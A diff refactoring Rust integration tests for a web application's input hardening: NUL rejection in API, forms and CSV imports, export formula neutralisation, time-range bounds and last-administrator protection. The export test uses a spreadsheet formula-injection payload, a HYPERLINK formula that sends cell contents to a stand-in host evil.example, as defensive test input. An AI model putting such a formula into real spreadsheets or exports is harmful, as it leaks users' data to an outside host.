@@ -3,8 +3,9 @@
 //! forms, CSV imports), and exports cannot smuggle formulas into a
 //! spreadsheet.
 
-use crate::support::{TestApp, expect_status, problem_fields};
+use crate::support::{TestApp, expect_status, header_text, problem_fields};
 use crate::web::Browser;
+use crate::web::text_with_status;
 use reqwest::header::CONTENT_DISPOSITION;
 use reqwest::{Method, StatusCode};
 use serde_json::{Value, json};
@@ -46,11 +47,7 @@ fn is_string(property: &Value) -> bool {
 #[tokio::test]
 async fn a_nul_in_any_text_field_of_any_body_is_refused_naming_the_field() {
     let app = TestApp::spawn().await;
-    let document = expect_status(
-        app.get(&app.admin, "/api/v1/openapi.json").await,
-        StatusCode::OK,
-    )
-    .await;
+    let document = app.read(&app.admin, "/api/v1/openapi.json").await;
     let mut checked = 0;
     for (path, operations) in document["paths"].as_object().unwrap() {
         let prefixed = if path.starts_with("/api/") {
@@ -127,12 +124,7 @@ async fn signing_in_with_a_nul_is_refused_before_anyone_is_known() {
         let mut body =
             json!({ "email": "admin@acme.test", "password": "pw", "organization": "acme" });
         body[field] = json!(NUL_TEXT);
-        let response = app
-            .request(Method::POST, None, "/api/v1/auth/login")
-            .json(&body)
-            .send()
-            .await
-            .unwrap();
+        let response = app.log_in(&body).await;
         let problem = expect_status(response, StatusCode::UNPROCESSABLE_ENTITY).await;
         assert_eq!(problem_fields(&problem), [field]);
     }
@@ -169,17 +161,12 @@ async fn a_nul_in_a_web_form_is_refused_naming_the_field() {
             &[("name", NUL_TEXT), ("customer_facing", "true")],
         )
         .await;
-    assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
-    let page = refused.text().await.unwrap();
+    let page = text_with_status(refused, StatusCode::UNPROCESSABLE_ENTITY).await;
     assert!(
         page.contains("name: must not contain the NUL character"),
         "{page}"
     );
-    let departments = expect_status(
-        app.get(&app.admin, "/api/v1/departments").await,
-        StatusCode::OK,
-    )
-    .await;
+    let departments = app.read(&app.admin, "/api/v1/departments").await;
     assert!(departments["items"].as_array().unwrap().is_empty());
 }
 
@@ -191,8 +178,7 @@ async fn an_imported_row_with_a_nul_is_reported_at_its_line() {
     let csv =
         "email,name,notes\r\nada@acme.test,Ada Lovelace,\r\nalan@acme.test,Alan Turing,a\u{0}b\r\n";
     let refused = admin.submit(&app, "/admin/import", &[("csv", csv)]).await;
-    assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
-    let page = refused.text().await.unwrap();
+    let page = text_with_status(refused, StatusCode::UNPROCESSABLE_ENTITY).await;
     assert!(page.contains("Nothing was imported"), "{page}");
     let errors = &page[page.find("id=\"import-errors\"").unwrap()..];
     assert!(
@@ -209,14 +195,10 @@ async fn exports_neutralise_formulas_and_download_as_attachments() {
     let app = TestApp::spawn().await;
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
     for name in [formula, "+1 Sales", "@Risk", "-Ops"] {
-        expect_status(
-            app.post(
-                &app.admin,
-                "/api/v1/departments",
-                &json!({ "name": name, "customer_facing": false }),
-            )
-            .await,
-            StatusCode::CREATED,
+        app.create(
+            &app.admin,
+            "/api/v1/departments",
+            &json!({ "name": name, "customer_facing": false }),
         )
         .await;
     }
@@ -224,12 +206,7 @@ async fn exports_neutralise_formulas_and_download_as_attachments() {
         .get(&app.admin, "/api/v1/exports/departments?format=csv")
         .await;
     assert_eq!(response.status(), StatusCode::OK);
-    let disposition = response
-        .headers()
-        .get(CONTENT_DISPOSITION)
-        .and_then(|value| value.to_str().ok())
-        .unwrap_or_default()
-        .to_owned();
+    let disposition = header_text(&response, CONTENT_DISPOSITION);
     assert!(
         disposition.starts_with("attachment; filename=\"roundtable-departments-")
             && disposition.ends_with(".csv\""),
@@ -251,12 +228,7 @@ async fn exports_neutralise_formulas_and_download_as_attachments() {
         let json = app
             .get(&app.admin, &format!("/api/v1/exports/{kind}?format=json"))
             .await;
-        let disposition = json
-            .headers()
-            .get(CONTENT_DISPOSITION)
-            .and_then(|value| value.to_str().ok())
-            .unwrap_or_default()
-            .to_owned();
+        let disposition = header_text(&json, CONTENT_DISPOSITION);
         assert!(
             disposition.starts_with(&format!("attachment; filename=\"roundtable-{kind}-"))
                 && disposition.ends_with(".json\""),
@@ -294,21 +266,18 @@ async fn business_time_requests_are_bounded_to_a_hundred_years() {
     )
     .await;
     assert_eq!(problem_fields(&problem), ["to"]);
-    let inside = expect_status(
-        app.get(
+    let inside = app
+        .read(
             &app.admin,
             &between("2000-01-01T00:00:00Z", "2099-12-31T00:00:00Z"),
         )
-        .await,
-        StatusCode::OK,
-    )
-    .await;
+        .await;
     assert!(inside["business_minutes"].as_i64().unwrap() > 0);
 
     // One working minute a week: a year of business minutes would be ten
     // thousand years of walking; the search stops at a hundred.
-    let sparse = expect_status(
-        app.post(
+    let sparse = app
+        .create(
             &app.admin,
             "/api/v1/calendars",
             &json!({
@@ -317,10 +286,7 @@ async fn business_time_requests_are_bounded_to_a_hundred_years() {
                 "working_hours": { "monday": [{ "start": "09:00", "end": "09:01" }] }
             }),
         )
-        .await,
-        StatusCode::CREATED,
-    )
-    .await;
+        .await;
     let sparse = crate::support::id_of(&sparse);
     let problem = expect_status(
         app.get(
@@ -350,11 +316,7 @@ async fn business_time_requests_are_bounded_to_a_hundred_years() {
 async fn the_last_active_administrator_cannot_be_demoted_or_deactivated() {
     let app = TestApp::spawn().await;
     let person = |id: i64| format!("/api/v1/people/{id}");
-    let me = expect_status(
-        app.get(&app.admin, &person(app.admin.id.0)).await,
-        StatusCode::OK,
-    )
-    .await;
+    let me = app.read(&app.admin, &person(app.admin.id.0)).await;
     let version = crate::support::version_of(&me);
     for (body, field) in [
         (json!({ "role": "member" }), "role"),
@@ -380,18 +342,13 @@ async fn the_last_active_administrator_cannot_be_demoted_or_deactivated() {
     browser.sign_in(&app, "admin@acme.test").await;
     let csv = "email,name,role\r\nlead@acme.test,Lead,lead\r\nadmin@acme.test,Admin,member\r\n";
     let refused = browser.submit(&app, "/admin/import", &[("csv", csv)]).await;
-    assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
-    let page = refused.text().await.unwrap();
+    let page = text_with_status(refused, StatusCode::UNPROCESSABLE_ENTITY).await;
     let errors = &page[page.find("id=\"import-errors\"").unwrap()..];
     assert!(
         errors.contains("line 3") && errors.contains("role"),
         "{errors}"
     );
-    let me = expect_status(
-        app.get(&app.admin, &person(app.admin.id.0)).await,
-        StatusCode::OK,
-    )
-    .await;
+    let me = app.read(&app.admin, &person(app.admin.id.0)).await;
     assert_eq!(me["role"], "admin");
 
     // With a second administrator, the first may step down, but the second
@@ -413,8 +370,7 @@ async fn the_last_active_administrator_cannot_be_demoted_or_deactivated() {
         StatusCode::OK,
     )
     .await;
-    let second_view =
-        expect_status(app.get(&second, &person(second.id.0)).await, StatusCode::OK).await;
+    let second_view = app.read(&second, &person(second.id.0)).await;
     expect_status(
         app.patch(
             &second,
@@ -437,18 +393,13 @@ async fn an_import_cannot_make_departments_their_own_ancestors() {
     browser.sign_in(&app, "admin@acme.test").await;
     let csv = "email,name,department,parent_department\r\nada@acme.test,Ada,Alpha,Beta\r\nalan@acme.test,Alan,Beta,Alpha\r\n";
     let refused = browser.submit(&app, "/admin/import", &[("csv", csv)]).await;
-    assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
-    let page = refused.text().await.unwrap();
+    let page = text_with_status(refused, StatusCode::UNPROCESSABLE_ENTITY).await;
     let errors = &page[page.find("id=\"import-errors\"").unwrap()..];
     assert!(
         errors.contains("line 3") && errors.contains("parent_department"),
         "{errors}"
     );
-    let departments = expect_status(
-        app.get(&app.admin, "/api/v1/departments").await,
-        StatusCode::OK,
-    )
-    .await;
+    let departments = app.read(&app.admin, "/api/v1/departments").await;
     assert!(
         departments["items"].as_array().unwrap().is_empty(),
         "nothing applied: {departments}"
